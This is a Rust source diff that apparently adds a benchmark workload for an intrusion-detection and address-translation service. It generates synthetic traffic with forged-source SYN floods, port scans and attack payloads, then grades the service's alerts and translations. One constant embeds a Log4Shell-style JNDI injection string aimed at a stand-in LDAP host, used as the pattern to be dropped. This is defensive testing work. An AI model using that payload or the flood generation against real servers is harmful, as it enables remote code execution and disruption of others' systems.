@@ -1,0 +1,498 @@
+//! The workload of intrusion detection (NFV-DIN): packets of both directions are counted for floods,
+//! searched for attacks, and translated.
+//!
+//! Hosts inside send to servers outside, which answer to the public address and port that the first
+//! packets were translated to. Among them: payloads that match a rule, one of which drops its packet;
+//! floods of TCP SYN from forged addresses to the public port of one host; scans of ports that nobody
+//! has; packets that there is no route for. What becomes of each is known beforehand: every answer
+//! carries the translated packet, which must be the one sent but for one end and its checksums, and
+//! its next hop. At the end the windows with an alarm and the rules that matched are read from every
+//! shard. (Scans are some percent of what arrives at unused addresses and far less of a used link:
+//! Durumeric, Bailey, Halderman, "An Internet-Wide View of Internet-Wide Scanning", USENIX Security
+//! 2014; floods: [`super::floods`].)
+
+use super::floods::{self, Floods};
+use super::gateway::{
+    self, Address, Bytes, End, Flows, NOT_FOUND, Routes, SYN, Score, Translations,
+};
+use super::packets::{ATTACKS, FLOWS, Packets};
+use super::questions::{Questions, answer, handled, key_of_shard, record};
+use super::{Call, Check, Inputs, Judged, Verified, Workload};
+use crate::LoadError;
+use crate::ledger::Rows;
+use crate::random::Random;
+use e3_model::Nanos;
+use e3_packet::{Flow, PacketBuilder, protocol};
+use e3_wire::entry::{Outcome, Reply};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::net::Ipv4Addr;
+
+/// Shards of nids, as the manifest has them.
+const NIDS_SHARDS: u16 = 12;
+/// Attacks in payloads: those of all packets, and one that is dropped.
+const PATTERNS: [&str; ATTACKS.len() + 1] = {
+    let mut patterns = ["${jndi:ldap://198.18.0.1/a}"; ATTACKS.len() + 1];
+    let mut at = 0;
+    while at < ATTACKS.len() {
+        patterns[at] = ATTACKS[at];
+        at += 1;
+    }
+    patterns
+};
+/// The rule of the first of them; the others follow.
+const FIRST_SID: u32 = 1001;
+/// Place of the one that is dropped.
+const DROPPED: usize = ATTACKS.len();
+/// While there is a flood, so many packets of 5 belong to it.
+const FLOOD_OF_5: u64 = 2;
+/// One packet in so many is a scan.
+const SCAN_ONE_IN: u64 = 200;
+/// One packet in so many goes where no route leads.
+const LOST_ONE_IN: u64 = 200;
+/// Flows among which a flood's victim is: frequent ones, which have a public port soon.
+const VICTIMS: u64 = 4;
+
+#[derive(Serialize)]
+struct Question {
+    op: &'static str,
+    at: &'static str,
+}
+
+#[derive(Deserialize)]
+#[serde(rename_all = "kebab-case")]
+struct Translated {
+    direction: String,
+    source: Address,
+    source_port: u16,
+    #[serde(default)]
+    next_hop: Option<Address>,
+    packet: Bytes,
+}
+
+#[derive(Deserialize)]
+struct Detected {
+    sids: Vec<u32>,
+    dropped: bool,
+}
+
+#[derive(Deserialize)]
+struct Alerts {
+    rules: Vec<(u32, u64, String)>,
+}
+
+/// What must become of a packet.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Fate {
+    /// Leaves translated.
+    Out,
+    /// Comes to this inside end.
+    In(Ipv4Addr, u16),
+    /// Is refused: nobody has the port, or there is no route.
+    Nowhere,
+}
+
+#[derive(Debug)]
+struct UnderWay {
+    packet: Vec<u8>,
+    flow: Flow,
+    fate: Fate,
+    attack: Option<usize>,
+}
+
+enum Sent {
+    Packet(UnderWay),
+    Report(u16),
+}
+
+/// Alerts of a rule.
+#[derive(Clone, Copy, Debug, Default)]
+struct Rule {
+    before: u64,
+    after: u64,
+    /// Packets that were handled.
+    sent: u64,
+    /// Packets without an outcome by the application: there may be an alert or not.
+    unknown: u64,
+}
+
+impl Rule {
+    fn found(&self) -> u64 {
+        self.after.saturating_sub(self.before)
+    }
+
+    fn most(&self) -> u64 {
+        self.sent + self.unknown
+    }
+}
+
+/// The workload.
+pub struct NfvDin {
+    stream: Packets,
+    random: Random,
+    routes: Routes,
+    flows: Flows,
+    rate_rps: f64,
+    sent: u64,
+    under_way: BTreeMap<u64, Sent>,
+    floods: Floods,
+    victim: Option<u32>,
+    translations: Translations,
+    packets: Score,
+    hops: Score,
+    refused: Score,
+    dropped: Score,
+    rules: BTreeMap<u32, Rule>,
+    /// Shards of nids that have said what they had before the load.
+    asked_before: u16,
+    questions: Questions,
+    check_from: Option<Nanos>,
+}
+
+fn alerts_of(shard: u16) -> Call {
+    let (op, at) = ("report", "nids");
+    Call {
+        tag: 0,
+        key: key_of_shard(shard, NIDS_SHARDS),
+        payload: record(&Question { op, at }),
+    }
+}
+
+impl NfvDin {
+    /// The packets of a seed.
+    pub fn new(inputs: &Inputs) -> Result<NfvDin, LoadError> {
+        let routes = Routes::shipped()?;
+        let ddos = (0..floods::SHARDS).map(floods::question);
+        let nids = (0..NIDS_SHARDS).map(alerts_of);
+        Ok(NfvDin {
+            stream: Packets::with(inputs.seed, &PATTERNS),
+            random: Random::new(!inputs.seed),
+            flows: Flows::new(&routes),
+            routes,
+            rate_rps: inputs.rate_rps,
+            sent: 0,
+            under_way: BTreeMap::new(),
+            floods: Floods::default(),
+            victim: None,
+            translations: Translations::default(),
+            packets: Score::default(),
+            hops: Score::default(),
+            refused: Score::default(),
+            dropped: Score::default(),
+            rules: BTreeMap::new(),
+            asked_before: 0,
+            questions: Questions::new(ddos.chain(nids).collect()),
+            check_from: None,
+        })
+    }
+
+    /// A packet of a flood, if there is one now.
+    fn flood(&mut self) -> Option<(UnderWay, Vec<u8>)> {
+        if !floods::is_time(self.sent as f64 / self.rate_rps) {
+            self.victim = None;
+            return None;
+        }
+        if self.random.below(5) >= FLOOD_OF_5 {
+            return None;
+        }
+        let rank = match self.victim {
+            Some(rank) => rank,
+            // these are of TCP
+            None => self.random.below(VICTIMS) as u32 * 5,
+        };
+        let inside = self.flows.of(rank);
+        let (address, port) = self.translations.public(&gateway::inside(&inside))?;
+        self.victim = Some(rank);
+        let flow = Flow {
+            source: gateway::outside(&mut self.random),
+            source_port: 1024 + self.random.below(60_000) as u16,
+            destination: address,
+            destination_port: port,
+            protocol: inside.protocol,
+        };
+        let sequence = self.random.next_u64() as u32;
+        let packet = PacketBuilder::new(flow).segment(sequence, 0, SYN).build();
+        let under_way = UnderWay {
+            packet,
+            flow,
+            fate: Fate::In(inside.source, inside.source_port),
+            attack: None,
+        };
+        Some((under_way, gateway::key(inside.source)))
+    }
+
+    /// Somebody tries the well-known ports of the public addresses, which are no one's.
+    fn scan(&mut self) -> (UnderWay, Vec<u8>) {
+        let destination = gateway::public(self.random.next_u64());
+        let flow = Flow {
+            source: gateway::outside(&mut self.random),
+            source_port: 40_000,
+            destination,
+            destination_port: 1 + self.random.below(1023) as u16,
+            protocol: protocol::TCP,
+        };
+        let packet = PacketBuilder::new(flow).segment(1, 0, SYN).build();
+        let under_way = UnderWay {
+            packet,
+            flow,
+            fate: Fate::Nowhere,
+            attack: None,
+        };
+        (under_way, gateway::key(destination))
+    }
+
+    fn ordinary(&mut self) -> (UnderWay, Vec<u8>) {
+        let back = self.random.one_in(2);
+        let lost = self.random.one_in(LOST_ONE_IN);
+        let (flows, translations, routes) = (&self.flows, &self.translations, &self.routes);
+        let random = &mut self.random;
+        let mut fate = Fate::Out;
+        let mut host = Ipv4Addr::UNSPECIFIED;
+        let mut flow = None;
+        let sent = self.stream.next_of(|rank| {
+            let out = flows.of(rank);
+            host = out.source;
+            let public = translations.public(&gateway::inside(&out));
+            let this = match public.filter(|_| back) {
+                Some((address, port)) => {
+                    fate = Fate::In(out.source, out.source_port);
+                    let reversed = out.reversed();
+                    Flow {
+                        destination: address,
+                        destination_port: port,
+                        ..reversed
+                    }
+                }
+                None if lost => {
+                    let destination = gateway::outside(random);
+                    if routes.next_hop(destination).is_none() {
+                        fate = Fate::Nowhere;
+                    }
+                    Flow { destination, ..out }
+                }
+                None => out,
+            };
+            *flow.insert(this)
+        });
+        let under_way = UnderWay {
+            packet: sent.bytes,
+            flow: flow.expect("asked for"),
+            fate,
+            attack: sent.attack,
+        };
+        (under_way, gateway::key(host))
+    }
+
+    /// Judges the answer of the last service.
+    fn on_translated(&mut self, sent: &UnderWay, reply: Option<&Reply>) -> bool {
+        let Some(got) = answer::<Translated>(reply) else {
+            return false;
+        };
+        let (expected, hop) = match sent.fate {
+            Fate::Nowhere => return false,
+            Fate::In(address, port) => {
+                let packet = gateway::readdressed(&sent.packet, End::Destination, address, port);
+                (packet, None)
+            }
+            Fate::Out => {
+                let public = (got.source.0, got.source_port);
+                let inside = gateway::inside(&sent.flow);
+                let consistent = self.translations.add(inside, public);
+                let hop = self.routes.next_hop(sent.flow.destination);
+                let right = self.hops.add(got.next_hop.map(|a| a.0) == hop);
+                if !consistent || !right {
+                    return false;
+                }
+                let packet = gateway::readdressed(&sent.packet, End::Source, public.0, public.1);
+                (packet, hop)
+            }
+        };
+        let direction = if hop.is_some() { "out" } else { "in" };
+        self.packets
+            .add(got.packet.0 == expected && got.direction == direction)
+    }
+
+    fn alerts(&mut self, report: Alerts, before: bool) {
+        for (sid, count, _) in report.rules {
+            let rule = self.rules.entry(sid).or_default();
+            match before {
+                true => rule.before += count,
+                false => rule.after += count,
+            }
+        }
+    }
+}
+
+impl Workload for NfvDin {
+    fn name(&self) -> &'static str {
+        "nfv-din"
+    }
+
+    fn describe(&self) -> String {
+        format!(
+            "packets of {FLOWS} flows by Zipf's law, simple IMIX, in both directions; 1 % attacks, floods, scans"
+        )
+    }
+
+    fn probe(&mut self) -> Call {
+        alerts_of(self.asked_before)
+    }
+
+    fn on_probe(&mut self, reply: &Reply) -> Result<(), LoadError> {
+        let alerts = answer::<Alerts>(Some(reply)).ok_or_else(|| LoadError::FirstRequest {
+            app: self.name().into(),
+            reason: String::from_utf8_lossy(&reply.payload).into_owned(),
+        })?;
+        self.alerts(alerts, true);
+        self.asked_before += 1;
+        Ok(())
+    }
+
+    fn ready(&self) -> bool {
+        self.asked_before == NIDS_SHARDS
+    }
+
+    fn at(&mut self, now: Nanos) {
+        self.floods.at(now);
+    }
+
+    fn next(&mut self) -> Option<Call> {
+        self.sent += 1;
+        let tag = self.sent;
+        if let Some(shard) = self.floods.next_question() {
+            self.under_way.insert(tag, Sent::Report(shard));
+            let question = floods::question(shard);
+            return Some(Call { tag, ..question });
+        }
+        let flood = self.flood();
+        let is_flood = flood.is_some();
+        let (sent, key) = match flood {
+            Some(flood) => flood,
+            None if self.random.one_in(SCAN_ONE_IN) => self.scan(),
+            None => self.ordinary(),
+        };
+        self.floods.on_sent(&key, is_flood);
+        let payload = sent.packet.clone();
+        self.under_way.insert(tag, Sent::Packet(sent));
+        Some(Call { tag, key, payload })
+    }
+
+    fn on_outcome(&mut self, tag: u64, reply: Option<&Reply>) -> Judged {
+        let sent = match self.under_way.remove(&tag) {
+            Some(Sent::Packet(sent)) => sent,
+            Some(Sent::Report(shard)) => {
+                let report = answer(reply);
+                if let Some(report) = &report {
+                    self.floods.on_report(shard, report);
+                }
+                return match report {
+                    Some(_) => Judged::accepted(),
+                    None => Judged::refused(handled(reply)),
+                };
+            }
+            None => return Judged::refused(handled(reply)),
+        };
+        if let Some(attack) = sent.attack {
+            let rule = self.rules.entry(FIRST_SID + attack as u32).or_default();
+            match handled(reply) {
+                true => rule.sent += 1,
+                false => rule.unknown += 1,
+            }
+        }
+        let Some(reply) = reply.filter(|r| r.outcome == Outcome::Done) else {
+            return Judged::refused(false);
+        };
+        if sent.attack == Some(DROPPED) {
+            let sids = [FIRST_SID + DROPPED as u32];
+            let detected = answer::<Detected>(Some(reply));
+            let right = detected.is_some_and(|d| d.dropped && d.sids == sids);
+            return match self.dropped.add(right) {
+                true => Judged::accepted(),
+                false => Judged::refused(true),
+            };
+        }
+        if sent.fate == Fate::Nowhere {
+            return match self.refused.add(reply.status == NOT_FOUND) {
+                true => Judged::refused_rightly(),
+                false => Judged::refused(true),
+            };
+        }
+        match self.on_translated(&sent, Some(reply)) {
+            true => Judged::accepted(),
+            false => Judged::refused(true),
+        }
+    }
+
+    fn next_check(&mut self, now: Nanos) -> Check {
+        // The last window must be over.
+        let from = Nanos(now.0 + floods::WINDOW.0 + floods::WINDOW.0 / 10);
+        let from = *self.check_from.get_or_insert(from);
+        match now < from {
+            true => Check::At(from),
+            false => self.questions.next(),
+        }
+    }
+
+    fn on_check(&mut self, _: Nanos, tag: u64, reply: Option<&Reply>) {
+        let good = if tag < u64::from(floods::SHARDS) {
+            let report = answer(reply);
+            report.map(|report| self.floods.on_report(tag as u16, &report))
+        } else {
+            answer(reply).map(|alerts| self.alerts(alerts, false))
+        };
+        self.questions.on_answer(tag, good.is_some());
+    }
+
+    fn checked(&self) -> f64 {
+        self.questions.progress()
+    }
+
+    fn verify(&self) -> Verified {
+        let rules = || self.rules.values();
+        let sum = |of: fn(&Rule) -> u64| rules().map(of).sum::<u64>();
+        let (sent, found) = (sum(|r| r.sent), sum(Rule::found));
+        let t = &self.translations;
+        let mut findings = self.floods.findings().to_vec();
+        findings.extend([
+            Score(sum(|r| r.found().min(r.sent)), sent).finding(
+                "attacks found",
+                "attacks in payloads that raised an alert (recall)",
+            ),
+            Score(sum(|r| r.found().min(r.most())), found).finding(
+                "alerts right",
+                "alerts of the rule of an attack that was sent (precision)",
+            ),
+            self.dropped
+                .finding("dropped", "packets with the attack that a rule drops"),
+            Score(t.consistent, t.seen).finding(
+                "translations",
+                "packets out with their flow's public address and port, no other's",
+            ),
+            self.packets.finding(
+                "packets",
+                "packets that came translated, byte by byte, checksums worked out anew",
+            ),
+            self.hops.finding(
+                "next hops",
+                "next hops as a plain search for the longest prefix has them",
+            ),
+            self.refused.finding(
+                "refused",
+                "packets to ports of nobody or without a route, refused",
+            ),
+        ]);
+        Verified {
+            // Each attack that was handled is one alert.
+            rows: Rows {
+                expected: sent,
+                found,
+                missing: sum(|r| r.sent.saturating_sub(r.found())),
+                repeated: sum(|r| r.found().saturating_sub(r.most())),
+                checks_failed: self.questions.failed(),
+                ..Rows::default()
+            },
+            spikes: None,
+            findings,
+        }
+    }
+}
